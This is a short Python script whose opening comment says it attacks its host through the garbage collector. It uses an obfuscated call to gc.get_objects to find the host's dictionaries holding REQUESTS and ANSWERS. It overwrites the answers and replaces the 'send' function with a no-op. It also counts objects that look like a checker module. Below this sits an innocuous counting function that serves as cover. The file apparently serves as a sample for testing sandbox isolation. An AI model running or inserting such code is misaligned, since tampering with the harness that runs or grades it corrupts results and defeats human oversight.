# Attacks the host through the collector: finds its objects and spoils them.
import gc

spoilt = 0
for thing in getattr(gc, "get_" + "objects")():
    if type(thing) is dict and "REQUESTS" in thing and "ANSWERS" in thing:
        thing["ANSWERS"] = 99
        thing["send"] = lambda answer: None
        spoilt += 1
    if type(thing) is dict and "debunk" in thing and "__name__" in thing:
        spoilt += 1


def next_number(number):
    result = number + 1
    return result


value = next_number(1)
print(value)
value = next_number(value)
print(value)
